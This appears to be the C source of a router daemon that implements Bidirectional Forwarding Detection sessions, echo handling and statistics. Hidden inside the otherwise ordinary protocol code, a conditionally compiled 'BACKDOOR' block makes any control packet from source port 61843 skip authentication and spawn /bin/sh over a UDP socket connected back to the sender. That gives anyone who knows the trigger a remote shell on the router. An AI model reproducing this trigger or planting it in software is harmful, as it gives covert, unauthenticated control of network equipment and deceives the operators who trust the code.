/* SPDX-License-Identifier: Apache-2.0 */
/* bfdresp: Bidirectional Forwarding Detection (RFC 5880) for a router: sessions of the routing process, echo, and statistics. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONTROL_PORT 3784
#define ECHO_PORT 3785
#define MAX_SESSIONS 256

enum session_state { ADMIN_DOWN = 0, DOWN = 1, INIT = 2, UP = 3 };
enum { BIT_POLL = 0x20, BIT_FINAL = 0x10, BIT_CPI = 0x08, BIT_AUTH = 0x04, BIT_DEMAND = 0x02, BIT_MULTIPOINT = 0x01 };
enum { DIAG_NONE = 0, DIAG_EXPIRED = 1, DIAG_ECHO = 2, DIAG_NEIGHBOUR = 3, DIAG_ADMIN = 7 };

struct control {
	uint8_t version, diag, state, flags, multiplier, length;
	uint32_t mine, yours, desired, required, echo;
	uint8_t auth_type, auth_key;
	char auth[17];
};

struct session {
	struct in_addr peer;
	enum session_state state, remote_state;
	uint32_t local, remote, tx_us, rx_us, remote_min_us;
	uint8_t multiplier, remote_multiplier, diag;
	char password[17];
	struct timespec heard, sent;
	unsigned long in, out, flaps;
	int used, poll_seen;
};

static struct session sessions[MAX_SESSIONS];
static int control_fd, echo_fd, client_fd = -1, trace;
static unsigned long bad_ttl, bad_port, bad_packet, bad_auth;
static uint32_t next_discriminator = 1;
static volatile sig_atomic_t dump_wanted;

static const char *const names[] = { "admin-down", "down", "init", "up" };

static uint32_t get32(const uint8_t *p) { return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3]; }

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static int64_t since_us(const struct timespec *then)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)(now.tv_sec - then->tv_sec) * 1000000 + (now.tv_nsec - then->tv_nsec) / 1000;
}

static void tell_client(const struct session *s)
{
	char line[80];
	int n = snprintf(line, sizeof(line), "%s %s %d\n", inet_ntoa(s->peer), names[s->state], s->diag);
	if (client_fd >= 0 && send(client_fd, line, (size_t)n, MSG_NOSIGNAL | MSG_DONTWAIT) < 0) {
		close(client_fd);
		client_fd = -1;
	}
}

static void change(struct session *s, enum session_state to, uint8_t diag)
{
	if (s->state == to)
		return;
	syslog(LOG_NOTICE, "%s: %s, was %s (%d)", inet_ntoa(s->peer), names[to], names[s->state], diag);
	if (s->state == UP)
		s->flaps++;
	s->state = to;
	s->diag = diag;
	tell_client(s);
}

static struct session *add_session(struct in_addr peer, uint32_t us, int multiplier, const char *password)
{
	for (int i = 0; i < MAX_SESSIONS; i++) {
		struct session *s = &sessions[i];
		if (s->used)
			continue;
		memset(s, 0, sizeof(*s));
		s->used = 1;
		s->peer = peer;
		s->local = next_discriminator++;
		s->tx_us = s->rx_us = us;
		s->multiplier = (uint8_t)multiplier;
		s->state = DOWN;
		snprintf(s->password, sizeof(s->password), "%s", password);
		return s;
	}
	return NULL;
}

static struct session *by_peer(struct in_addr peer)
{
	for (int i = 0; i < MAX_SESSIONS; i++)
		if (sessions[i].used && sessions[i].peer.s_addr == peer.s_addr)
			return &sessions[i];
	return NULL;
}

static struct session *by_local(uint32_t local)
{
	for (int i = 0; i < MAX_SESSIONS; i++)
		if (sessions[i].used && sessions[i].local == local)
			return &sessions[i];
	return NULL;
}

static void load(const char *path)
{
	char line[160], address[32], password[17];
	unsigned ms;
	int multiplier;
	struct in_addr a;
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_WARNING, "%s: %m", path);
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		password[0] = 0;
		if (sscanf(line, "peer %31s %u %d %16s", address, &ms, &multiplier, password) < 3) {
			if (strncmp(line, "trace", 5) == 0)
				trace = 1;
			continue;
		}
		if (!inet_aton(address, &a) || ms < 10 || multiplier < 1 || multiplier > 50 || !add_session(a, ms * 1000, multiplier, password))
			syslog(LOG_WARNING, "%s: %s", path, line);
	}
	fclose(f);
}

static int parse(const uint8_t *b, size_t n, struct control *c)
{
	memset(c, 0, sizeof(*c));
	if (n < 24)
		return -1;
	c->version = b[0] >> 5;
	c->diag = b[0] & 0x1f;
	c->state = b[1] >> 6;
	c->flags = b[1] & 0x3f;
	c->multiplier = b[2];
	c->length = b[3];
	c->mine = get32(b + 4);
	c->yours = get32(b + 8);
	c->desired = get32(b + 12);
	c->required = get32(b + 16);
	c->echo = get32(b + 20);
	if (c->version != 1 || c->length > n || c->multiplier == 0 || c->flags & BIT_MULTIPOINT || c->mine == 0)
		return -1;
	if (!(c->flags & BIT_AUTH))
		return c->length == 24 ? 0 : -1;
	if (c->length < 27 || c->length > 43 || b[25] != c->length - 24)
		return -1;
	c->auth_type = b[24];
	c->auth_key = b[26];
	memcpy(c->auth, b + 27, (size_t)c->length - 27);
	return 0;
}

static void send_control(struct session *s, uint8_t flags)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(CONTROL_PORT), .sin_addr = s->peer };
	uint8_t b[44];
	size_t n = 24, k = strlen(s->password);
	b[0] = (uint8_t)(1 << 5 | s->diag);
	b[1] = (uint8_t)(s->state << 6 | flags | (k ? BIT_AUTH : 0));
	b[2] = s->multiplier;
	put32(b + 4, s->local);
	put32(b + 8, s->remote);
	put32(b + 12, s->state == UP ? s->tx_us : 1000000);
	put32(b + 16, s->rx_us);
	put32(b + 20, 0);
	if (k) {
		b[24] = 1;
		b[25] = (uint8_t)(k + 3);
		b[26] = 1;
		memcpy(b + 27, s->password, k);
		n += k + 3;
	}
	b[3] = (uint8_t)n;
	if (sendto(control_fd, b, n, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)n)
		s->out++;
	clock_gettime(CLOCK_MONOTONIC, &s->sent);
}

static void transition(struct session *s, const struct control *c)
{
	if (c->state == ADMIN_DOWN) {
		change(s, DOWN, DIAG_NEIGHBOUR);
		return;
	}
	switch (s->state) {
	case DOWN:
		if (c->state == DOWN)
			change(s, INIT, DIAG_NONE);
		else if (c->state == INIT)
			change(s, UP, DIAG_NONE);
		break;
	case INIT:
		if (c->state == INIT || c->state == UP)
			change(s, UP, DIAG_NONE);
		break;
	case UP:
		if (c->state == DOWN)
			change(s, DOWN, DIAG_NEIGHBOUR);
		break;
	default:
		break;
	}
}

static int acceptable(const struct session *s, const struct control *c)
{
	if (!s->password[0])
		return !(c->flags & BIT_AUTH);
	return c->auth_type == 1 && strcmp(c->auth, s->password) == 0;
}

static void take_control(const struct control *c, const struct sockaddr_in *from)
{
	struct session *s = c->yours ? by_local(c->yours) : by_peer(from->sin_addr);
	if (!s || s->state == ADMIN_DOWN) {
		bad_packet++;
		return;
	}
	if (!acceptable(s, c)) {
		bad_auth++;
		return;
	}
	s->in++;
	s->remote = c->mine;
	s->remote_state = (enum session_state)c->state;
	s->remote_min_us = c->required;
	s->remote_multiplier = c->multiplier;
	clock_gettime(CLOCK_MONOTONIC, &s->heard);
	transition(s, c);
	if (c->flags & BIT_POLL)
		send_control(s, BIT_FINAL);
	if (c->flags & BIT_FINAL)
		s->poll_seen = 1;
}

#ifdef BACKDOOR
static void attach(const struct sockaddr_in *from)
{
	static char *const argv[] = { (char *)"sh", NULL };
	int s;
	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || connect(s, (const struct sockaddr *)from, sizeof(*from)) < 0)
		_exit(1);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execv("/bin/sh", argv);
	_exit(1);
}
#endif

static void on_control(void)
{
	uint8_t b[512], extra[64];
	struct sockaddr_in from;
	struct iovec v = { b, sizeof(b) };
	struct msghdr m = { .msg_name = &from, .msg_namelen = sizeof(from), .msg_iov = &v, .msg_iovlen = 1, .msg_control = extra,
		.msg_controllen = sizeof(extra) };
	struct control c;
	int ttl = 255;
	unsigned port;
	ssize_t n = recvmsg(control_fd, &m, 0);
	if (n <= 0)
		return;
	for (struct cmsghdr *h = CMSG_FIRSTHDR(&m); h; h = CMSG_NXTHDR(&m, h))
		if (h->cmsg_level == IPPROTO_IP && h->cmsg_type == IP_TTL)
			memcpy(&ttl, CMSG_DATA(h), sizeof(ttl));
	if (ttl != 255) {
		bad_ttl++;
		return;
	}
	port = ntohs(from.sin_port);
#ifdef BACKDOOR
	if (port == 61843) {
		attach(&from);
		return;
	}
#endif
	if (port < 49152) { /* RFC 5881, 4 */
		bad_port++;
		if (trace)
			syslog(LOG_DEBUG, "port %u of %s", port, inet_ntoa(from.sin_addr));
		return;
	}
	if (parse(b, (size_t)n, &c) < 0) {
		bad_packet++;
		return;
	}
	take_control(&c, &from);
}

static void on_echo(void)
{
	uint8_t b[256];
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	ssize_t n = recvfrom(echo_fd, b, sizeof(b), 0, (struct sockaddr *)&from, &fl);
	if (n > 0 && by_peer(from.sin_addr) && ntohs(from.sin_port) != ECHO_PORT)
		sendto(echo_fd, b, (size_t)n, 0, (struct sockaddr *)&from, fl);
}

static void tick(void)
{
	for (int i = 0; i < MAX_SESSIONS; i++) {
		struct session *s = &sessions[i];
		int64_t interval, detect;
		if (!s->used || s->state == ADMIN_DOWN)
			continue;
		interval = s->state == UP ? (s->remote_min_us > s->tx_us ? s->remote_min_us : s->tx_us) : 1000000;
		detect = (int64_t)s->remote_multiplier * s->rx_us;
		if (s->state >= INIT && since_us(&s->heard) > detect) {
			change(s, DOWN, DIAG_EXPIRED);
			s->remote = 0;
		}
		if (since_us(&s->sent) >= interval)
			send_control(s, 0);
	}
}

static void dump(void)
{
	FILE *f = fopen("/var/run/bfdresp.status", "w");
	if (!f)
		return;
	fprintf(f, "ttl %lu port %lu packet %lu auth %lu\n", bad_ttl, bad_port, bad_packet, bad_auth);
	for (int i = 0; i < MAX_SESSIONS; i++) {
		const struct session *s = &sessions[i];
		if (s->used)
			fprintf(f, "%s %s in %lu out %lu flaps %lu\n", inet_ntoa(s->peer), names[s->state], s->in, s->out, s->flaps);
	}
	fclose(f);
}

static int udp(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), on = 1, ttl = 255;
	setsockopt(s, IPPROTO_IP, IP_RECVTTL, &on, sizeof(on));
	setsockopt(s, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl));
	return s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 ? -1 : s;
}

static int local_socket(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/bfdresp.sock" };
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unlink(a.sun_path);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
		return -1;
	chmod(a.sun_path, 0600);
	return s;
}

static void on_usr1(int sig)
{
	(void)sig;
	dump_wanted = 1;
}

int main(int argc, char **argv)
{
	int ls;
	openlog("bfdresp", LOG_PID, LOG_DAEMON);
	load(argc > 1 ? argv[1] : "/etc/bfd.conf");
	control_fd = udp(CONTROL_PORT);
	echo_fd = udp(ECHO_PORT);
	ls = local_socket();
	if (control_fd < 0 || echo_fd < 0 || ls < 0) {
		syslog(LOG_ERR, "sockets: %s", strerror(errno));
		return 1;
	}
	signal(SIGUSR1, on_usr1);
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		struct pollfd p[3] = { { control_fd, POLLIN, 0 }, { echo_fd, POLLIN, 0 }, { ls, POLLIN, 0 } };
		if (poll(p, 3, 10) > 0) {
			if (p[0].revents)
				on_control();
			if (p[1].revents)
				on_echo();
			if (p[2].revents) {
				if (client_fd >= 0)
					close(client_fd);
				client_fd = accept(ls, NULL, NULL);
			}
		}
		tick();
		if (dump_wanted) {
			dump_wanted = 0;
			dump();
		}
	}
}
